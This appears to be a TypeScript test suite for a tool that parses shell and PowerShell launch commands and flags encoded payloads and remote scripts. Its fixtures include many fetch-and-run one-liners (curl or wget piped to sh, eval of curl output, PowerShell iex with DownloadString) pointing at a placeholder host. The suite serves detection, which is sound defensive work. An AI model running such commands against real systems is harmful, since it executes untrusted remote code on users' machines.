import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { read, texts } from './launchOf.ts';

/** The programs in the code, `plain` words, or how it came. */
function shell(command: string, ...args: readonly string[]) {
  const { launch, source } = read(command, ...args);
  if (!launch.shell) return undefined;
  const { code, plain, encoded } = launch.shell;
  return {
    code: code.map(source),
    programs: texts(launch.commands.map(({ program }) => program)),
    ...(plain ? { plain: texts(plain) } : {}),
    ...(encoded ? { encoded } : {}),
  };
}

describe('code that a shell is given', () => {
  test('one plain command', () => {
    assert.deepEqual(shell('bash', '-lc', 'npx -y "@a/b" --x=1'), {
      code: ['npx -y \\"@a/b\\" --x=1'],
      programs: ['npx'],
      plain: ['npx', '-y', '@a/b', '--x=1'],
    });
  });

  test('operators that are none', () => {
    assert.deepEqual(shell('sh', '-c', 'a "b; c" \'d && e\' f\\;g # h; i')?.plain, [
      'a',
      'b; c',
      'd && e',
      'f;g',
    ]);
  });

  test('redirections belong to no command', () => {
    for (const code of ['a b 2> log', 'a b >log', 'a b &> log', 'a b < in', 'a b 2>&1', 'a >> log b']) {
      const { launch } = read('sh', '-c', code);
      assert.deepEqual(
        launch.commands.map(({ args }) => texts(args)),
        [['b']],
        code,
      );
      assert.equal(launch.shell?.plain, undefined, code);
    }
  });

  test('brackets in quotes are text', () => {
    assert.deepEqual(shell('sh', '-c', 'a "b (c)" "d;e"')?.plain, ['a', 'b (c)', 'd;e']);
  });

  const posix: readonly (readonly [code: string, ...programs: string[]])[] = [
    ['cd /x && npx a', 'cd', 'npx'],
    ['a; b | c & d || e\nf', 'a', 'b', 'c', 'd', 'e', 'f'],
    ['A=b npx a', 'npx'],
    ['npx a &', 'npx'],
    ['npx a;', 'npx'],
    ['a||b&&c|&d', 'a', 'b', 'c', 'd'],
    ['exec npx a > log 2>&1', 'npx'],
    ['a $(b "$(c)") d', 'c', 'b', 'a'],
    ['a `b c` d', 'b', 'a'],
    ['diff <(a b) <(c d)', 'a', 'c', 'diff'],
    ['if ! command -v a; then b; fi', 'a', 'b', 'fi'],
    ['(a; b) && { c; }', 'a', 'b', 'c'],
    ['a "$B"', 'a'],
    ['a *.js', 'a'],
    ['bash -c "x; y"', 'x', 'y'],
    ['bash -c "sh -c \'x; y\'"', 'x', 'y'],
  ];
  for (const [code, ...programs] of posix) {
    test(code, () => {
      const found = shell('sh', '-c', code);
      assert.deepEqual(
        found?.programs.filter((program) => program !== '}'),
        programs,
      );
      assert.equal(found && 'plain' in found, false);
    });
  }

  const given: readonly (readonly [line: readonly string[], code: readonly string[] | undefined])[] = [
    [['bash', '-c', 'a | b', 'zero', 'one'], ['a | b']],
    [['bash', '--login', '-eo', 'pipefail', '-c', 'a | b'], ['a | b']],
    [['bash', '-o', 'pipefail', '-c', 'a | b'], ['a | b']],
    [['bash', '-O', 'extglob', '-c', 'a | b'], ['a | b']],
    [['fish', '--command=a | b'], ['--command=a | b']],
    [['/bin/zsh', '-i', '-c', 'a | b'], ['a | b']],
    [['bash', 'start.sh', '-c', 'a | b'], undefined],
    [['sh', './start.sh'], undefined],
    [['bash', '-c'], undefined],
    [
      ['cmd', '/c', 'a', '&&', 'b'],
      ['a', '&&', 'b'],
    ],
    [['cmd.exe', '/d', '/s', '/c', 'a > x'], ['a > x']],
    [['cmd', '/c', 'a', '--b', '"c & d"'], undefined],
    [['cmd', 'a', '/c', 'b & c'], undefined],
    [
      ['powershell', '-NoProfile', '-ExecutionPolicy', 'Bypass', '-Command', 'a;', 'b'],
      ['a;', 'b'],
    ],
    [['powershell', 'a; b'], ['a; b']],
    [['pwsh', 'a.ps1'], undefined],
    [['pwsh', '-NoLogo', '-File', 'a.ps1'], undefined],
    [['pwsh', '-wd', '/x', '-c', 'a; b'], ['a; b']],
    [['wsl', 'bash', '-c', "'a && b'"], ["'a && b'"]],
  ];
  for (const [[command = '', ...args], code] of given) {
    test([command, ...args].join(' '), () => assert.deepEqual(shell(command, ...args)?.code, code));
  }

  test('encoded code is told from code', () => {
    assert.equal(shell('powershell', '-enc', 'ZQBjAA==')?.encoded, true);
    assert.equal(shell('sh', '-c', 'echo aGk= | base64 -d | sh')?.encoded, true);
    assert.equal(shell('sh', '-c', 'base64 x | a')?.encoded, undefined);
  });

  test('words have their own places, also in code inside code', () => {
    const { launch, source } = read('bash', '-c', 'cd x && sh -c \'npx -y "@a/b@1"\'');
    assert.deepEqual(
      launch.packages.map(({ word }) => source(word)),
      ['@a/b@1'],
    );
    const escaped = read('bash', '-c', 'sh -c "npx \\"@a/b\\""');
    assert.deepEqual(
      escaped.launch.packages.map(({ word }) => word.text),
      ['@a/b'],
    );
    // Escapes hide the place of the word: it is that of the code around it.
    assert.deepEqual(
      escaped.launch.packages.map(({ word }) => escaped.source(word)),
      ['\\"npx \\\\\\"@a/b\\\\\\"\\"'],
    );
  });
});

describe('code that is fetched and run', () => {
  const posix: readonly (readonly [code: string, runner?: string, address?: string])[] = [
    ['curl -s https://h.test/i | sh', 'sh', 'https://h.test/i'],
    ['wget -O- https://h.test/i | sudo -E bash -s -- -y', 'bash', 'https://h.test/i'],
    ['curl https://h.test/i | gunzip | python3 -', 'python3', 'https://h.test/i'],
    ['bash <(curl -s https://h.test/i)', 'bash', 'https://h.test/i'],
    ['bash -c "$(curl -s https://h.test/i)"', 'bash', 'https://h.test/i'],
    ['eval "$(curl h.test)"', 'eval'],
    ['. <(wget -qO- https://h.test/i)', '.', 'https://h.test/i'],
    ['python3 -c "$(curl https://h.test/i)"', 'python3', 'https://h.test/i'],
    ['(curl https://h.test/i) | sh', 'sh', 'https://h.test/i'],
    ['$(curl https://h.test/i)', 'sh', 'https://h.test/i'],
    ['curl -o /tmp/i.sh https://h.test/i && sh /tmp/i.sh', 'sh', 'https://h.test/i'],
    ['wget https://h.test/i.sh?x=1; chmod +x i.sh; ./i.sh', 'i.sh', 'https://h.test/i.sh?x=1'],
    ['curl https://h.test/i > x.py && python x.py', 'python', 'https://h.test/i'],
    ['curl https://h.test | jq .'],
    ['curl https://h.test | python -m json.tool'],
    ['curl https://h.test | node -e "process.stdin"'],
    ['curl https://h.test | sh ./filter.sh'],
    ['node s.js --t $(curl https://h.test)'],
    ['echo $(curl https://h.test)'],
    ['curl -o data.json https://h.test/d && node s.js'],
    ['cat i.sh | sh'],
    ['curl -o i https://h.test/i && echo "ab  i" | sha256sum -c - && ./i'],
    ['curl -o i https://h.test/i && shasum -a 256 --check sums && ./i'],
    ['curl -o i https://h.test/i && sha256sum i && ./i', 'i', 'https://h.test/i'],
    ['curl https://h.test/i | sh; echo "ab  i" | sha256sum -c -', 'sh', 'https://h.test/i'],
  ];
  for (const [code, runner, address] of posix) {
    test(code, () => {
      const { launch } = read('sh', '-c', code);
      assert.deepEqual(
        launch.remoteScripts.map((script) => [script.kind, script.runner, script.address]),
        runner === undefined ? [] : [['shell', runner, address]],
      );
    });
  }

  test('PowerShell', () => {
    for (const code of [
      'iex (iwr https://h.test/i)',
      'irm https://h.test/i | iex',
      '$x = irm https://h.test/i; Invoke-Expression $x',
      "iex ((New-Object Net.WebClient).DownloadString('https://h.test/i'))",
    ]) {
      const { launch } = read('pwsh', '-c', code);
      assert.deepEqual(
        launch.remoteScripts.map(({ address }) => address),
        ['https://h.test/i'],
        code,
      );
    }
    assert.deepEqual(read('pwsh', '-c', 'irm https://h.test/i | ConvertTo-Json').launch.remoteScripts, []);
  });

  test('runners of addresses', () => {
    for (const line of ['npx -y', 'uvx', 'pipx run', 'deno run -A', 'uv run']) {
      const { launch } = read(`${line} https://h.test/a.tgz`);
      assert.deepEqual(
        launch.remoteScripts.map(({ kind }) => kind),
        ['runner'],
        line,
      );
    }
    assert.deepEqual(read('uvx', 'https://h.test/a.whl#sha256=00').launch.remoteScripts, []);
    assert.deepEqual(read('npx', 'a@1.0.0', 'https://h.test/a').launch.remoteScripts, []);
  });
});
